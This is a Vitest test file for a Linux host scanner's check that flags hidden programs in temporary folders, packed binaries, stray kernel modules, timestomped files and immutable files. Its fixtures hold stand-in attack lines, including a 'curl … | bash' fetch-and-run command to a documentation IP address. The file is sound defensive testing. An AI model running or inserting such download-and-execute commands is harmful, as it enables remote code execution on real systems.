import { execFileSync } from 'node:child_process';
import { statSync, utimesSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { lacks } from '../../../test/need.ts';
import { makeRoot, scanRoot, shown } from '../../../test/throwaway-root.ts';
import { oddFile } from './check.ts';

const elf = { text: Buffer.from('\x7fELF and more'), mode: 0o755 };

describe('odd-file', () => {
  it('finds programs in temporary folders and files in /dev', async () => {
    const report = await scanRoot([oddFile], {
      '/dev/shm/.x/kdev': elf, '/dev/shm/run': elf, '/tmp/.hid/a': elf, '/tmp/job.sh': { text: '#!/bin/sh\ncurl -fsSL http://203.0.113.9/i.sh | bash\n', mode: 0o755 }, '/dev/.lib/log': 'x', '/dev/nul': 'x',
      '/tmp/build/one': elf, '/tmp/make/a': elf, '/tmp/make/b': elf,
    });
    expect(shown(report).sort()).toEqual(['high /dev/shm/.x/kdev', 'low /tmp/make', 'medium /dev/.lib/log', 'medium /dev/nul', 'medium /dev/shm/run', 'medium /tmp/.hid/a', 'medium /tmp/job.sh']);
  });

  it('finds packed programs and kernel modules in temporary folders', async () => {
    const packed = { text: Buffer.concat([elf.text, Buffer.alloc(150), Buffer.from('UPX!'), Buffer.alloc(300)]), mode: 0o755 };
    expect(shown(await scanRoot([oddFile], { '/var/tmp/update': packed, '/var/tmp/.m/net.ko': elf.text, '/tmp/build/mod.ko': elf.text, '/tmp/notes.ko.txt': 'x' })).sort()).toEqual(['high /var/tmp/update', 'medium /var/tmp/.m/net.ko']);
  });

  it('takes the scripts of another Linux in a temporary folder for one heap', async () => {
    const script = { text: '#!/bin/sh\nnohup x &\ncurl -s http://198.51.100.4/x > /tmp/x\n', mode: 0o755 };
    const report = await scanRoot([oddFile], { '/tmp/root/var/lib/dpkg/status': 'Package: x\n', '/tmp/root/usr/sbin/one': script, '/tmp/root/usr/sbin/two': script });
    expect(report.findings.map(({ level, path }) => `${level} ${path}`)).toEqual(['low /tmp/root']);
  });

  it('is silent for what tools and packages leave', async () => {
    expect(shown(await scanRoot([oddFile], { '/tmp/node_modules/esbuild/bin/esbuild': elf, '/tmp/notes.txt': 'x', '/dev/shm/PostgreSQL.123': 'x', '/tmp/text': { text: 'no program', mode: 0o777 }, '/usr/bin/tool': { ...elf, package: 'tool' } }))).toEqual([]);
  });

  it('finds a program that borrowed the time of a neighbour', async () => {
    const root = makeRoot({ '/usr/bin/mine': elf, '/usr/bin/older': elf, '/usr/bin/future': elf });
    const { mtime } = statSync(join(root, 'usr/bin/curl'));
    utimesSync(join(root, 'usr/bin/mine'), mtime, mtime);
    utimesSync(join(root, 'usr/bin/older'), new Date('2024-01-01'), new Date('2024-01-01'));
    utimesSync(join(root, 'usr/bin/future'), new Date('2040-01-01'), new Date('2040-01-01'));
    utimesSync(join(root, 'usr/bin/curl'), mtime, mtime);
    expect(shown(await scanRoot([oddFile], root))).toEqual(['medium /usr/bin/mine', 'low /usr/bin/future']);
  });

  it.skipIf(lacks({ root: true, files: ['/usr/bin/chattr'] }))('finds locked files, mildly where administrators lock them', async () => {
    const root = makeRoot({ '/etc/cron.d/job': 'x', '/root/.ssh/authorized_keys': 'x', '/var/tmp/keep': 'x', '/etc/resolv.conf': 'x', '/var/www/html/.user.ini': 'x', '/root/notes': 'x' });
    const paths = ['etc/cron.d/job', 'root/.ssh/authorized_keys', 'var/tmp/keep', 'etc/resolv.conf', 'var/www/html/.user.ini', 'etc/passwd'].map((path) => join(root, path));
    execFileSync('/usr/bin/chattr', ['+i', ...paths]);
    onTestFinished(() => { execFileSync('/usr/bin/chattr', ['-i', ...paths]); });
    expect(shown(await scanRoot([oddFile], root))).toEqual(['high /var/tmp/keep', 'medium /etc/cron.d/job', 'medium /root/.ssh/authorized_keys', 'info /etc/passwd']);
    execFileSync('/usr/bin/chattr', ['-i', ...paths]);
    expect(shown(await scanRoot([oddFile], root))).toEqual([]);
  });
});
